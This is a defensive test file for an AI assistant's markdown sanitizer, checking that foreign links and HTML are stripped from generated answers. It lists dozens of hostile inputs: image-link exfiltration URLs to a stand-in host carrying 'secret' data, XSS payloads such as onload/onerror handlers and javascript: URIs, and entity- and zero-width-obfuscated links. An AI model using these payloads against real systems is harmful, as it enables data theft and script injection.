from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from assistant.answering.sanitize import addresses, sanitized

OURS = "https://learn.contoso.example/deals"
EVIL = "evil.example"
TRICKS = [
    f"See [here](https://{EVIL}/?q=secret).",
    f"![x](https://{EVIL}/p.png)",
    f"![x][ref]\n\n[ref]: https://{EVIL}/p.png",
    f"[text][ref]\n\n[ref]: <https://{EVIL}/p> 'title'",
    f"[ref]\n\n  [ref]: https://{EVIL}/p",
    f"<https://{EVIL}/a>",
    f"<a href='https://{EVIL}/a'>x</a>",
    f"<img src=https://{EVIL}/a.png>",
    f"<IMG\nSRC=//{EVIL}/a.png onerror=alert(1)>",
    f"<svg/onload=fetch('//{EVIL}')>",
    f"<!-- {EVIL} --><iframe src='https://{EVIL}'></iframe>",
    f"plain https://{EVIL}/path?x=1 text",
    f"HTTPS://{EVIL.upper()}/A",
    f"www.{EVIL}/a",
    f"//{EVIL}/a",
    f"https:\\\\{EVIL}\\a",
    f"https:/{EVIL}/a",
    f'[x](  https://{EVIL}/a  "t" )',
    f"[x](<https://{EVIL}/a b>)",
    f"[![inner](https://{EVIL}/i.png)](https://{EVIL}/o)",
    f"&#104;ttps://{EVIL}/a",
    f"[x](&#x68;ttps&colon;//{EVIL}/a)",
    f"&lt;img src=https://{EVIL}/a&gt;",
    f"&amp;lt;img src=https://{EVIL}/a&amp;gt;",
    f"ht\u200btps://{EVIL}/a",
    f"[x](java\u200bscript:alert(1)//{EVIL})",
    f"[x](javascript:fetch('https://{EVIL}'))",
    f"[x](data:text/html,<script src=https://{EVIL}></script>)",
    f"[x](vbscript:x//{EVIL})",
    f"<https://{EVIL}|click here>",
    f"[x](https://learn.contoso.example@{EVIL}/deals)",
    f"[x](https://learn.contoso.example.{EVIL}/deals)",
    f"[x](https://{EVIL}/learn.contoso.example/deals)",
    f"[x]({OURS}?next=https://{EVIL})",
    f"[x]({OURS}#https://{EVIL})",
    f"{EVIL}/collect?d=secret",
    f"mail someone@{EVIL}",
    f"mailto:someone@{EVIL}",
    f"[a](https://{EVIL}/(b)c)",
    f"[a\\](https://{EVIL})",
    f"\\[a](https://{EVIL})",
    f"`https://{EVIL}/code`",
    f"```\nhttps://{EVIL}/code\n```",
    f"| a |\n|---|\n| ![x](https://{EVIL}/t.png) |",
    f"[a]: https://{EVIL}\n[a]",
    f"[x](https://{EVIL}\n/path)",
    f"ftp://{EVIL}/f file://{EVIL}/share slack://{EVIL}/x",
    f"\\\\{EVIL}\\share\\x",
]


def urls(markdown: str) -> list[str]:
    found = re.findall(r"(?:href|src)=\"([^\"]*)\"", MarkdownIt("commonmark", {"html": True}).render(markdown))
    return [url for url in found if url]


@pytest.mark.parametrize("trick", TRICKS)
def test_no_trick_leaves_a_foreign_address_or_html(trick: str) -> None:
    shown = sanitized(trick, allowed=[OURS])
    assert EVIL not in shown.lower()
    assert urls(shown) == []
    assert not re.search(r"<\s*[A-Za-z/!]", shown)


@pytest.mark.parametrize("trick", TRICKS)
def test_what_is_safe_stays_as_it_is_when_it_is_made_safe_again(trick: str) -> None:
    once = sanitized(f"Ask your manager. {trick} Done.", allowed=[OURS])
    assert sanitized(once, allowed=[OURS]) == once
    assert once.startswith("Ask your manager.")


def test_links_of_the_documents_stay() -> None:
    text = f"Read [the page]({OURS}) or {OURS}."
    assert sanitized(text, allowed=[OURS]) == text
    assert urls(sanitized(text, allowed=[OURS])) == [OURS]


def test_addresses_of_a_document_are_its_own_only_on_the_hosts_named() -> None:
    text = f"See {OURS}, or https://{EVIL}/x."
    assert addresses(text, hosts=["learn.contoso.example"]) == {OURS}
    assert addresses(text, hosts=[]) == set()


@pytest.mark.parametrize(
    "text",
    [
        "Gold partners get 20 % off for 90 days, at 3.5 points each [1].",
        "Use the portal, e.g. Node.js or ASP.NET version 4.2.1; see Settings/Users and 24/7.",
        "- Öffnen Sie das Portal: *wichtig*.",
        "1 < 2 and 3 > 2 & so on",
        "案件は30日以内に登録する必要があります。",
    ],
)
def test_ordinary_text_is_not_touched(text: str) -> None:
    assert sanitized(text, allowed=[]) == text


PIECES = [
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "!",
    "https://",
    EVIL,
    "/a",
    " ",
    "\n",
    "x",
    "&#104;",
    "javascript:",
    "|",
    "`",
    "\\",
]


@settings(max_examples=400, deadline=None)
@given(
    st.lists(st.sampled_from([*PIECES, "\\", "[r]: ", "//", "@", "\u200b", "www.", ":", '"']), max_size=14).map("".join)
)
def test_no_combination_of_pieces_makes_a_link(text: str) -> None:
    assert urls(sanitized(text, allowed=[OURS])) == []
